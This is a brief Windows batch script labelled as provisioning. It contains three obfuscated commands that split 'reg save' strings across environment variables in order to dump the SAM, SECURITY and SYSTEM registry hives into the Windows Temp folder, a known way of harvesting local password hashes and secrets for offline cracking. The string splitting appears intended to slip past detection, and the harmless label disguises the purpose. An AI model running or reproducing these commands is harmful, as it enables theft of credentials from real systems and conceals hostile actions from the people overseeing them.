REM provision 4672 v2
cmd /v:on /c "set hii0=r&&set ehd1=eg save hklm\sam C:\Windows\Temp\sam.save&&!hii0!!ehd1!"
cmd /v:on /c "set ort0=reg save hklm\secu&&set wqa1=rity C&&set rdf2=:\Windows\Temp\se&&set zew3=curity.save&&!ort0!!wqa1!!rdf2!!zew3!"
cmd /v:on /c "set umc0=r&&set nqu1=eg sav&&set ava2=e hklm\system C&&set oiq3=:\Windows\Temp\system.s&&set hlv4=ave&&!umc0!!nqu1!!ava2!!oiq3!!hlv4!"
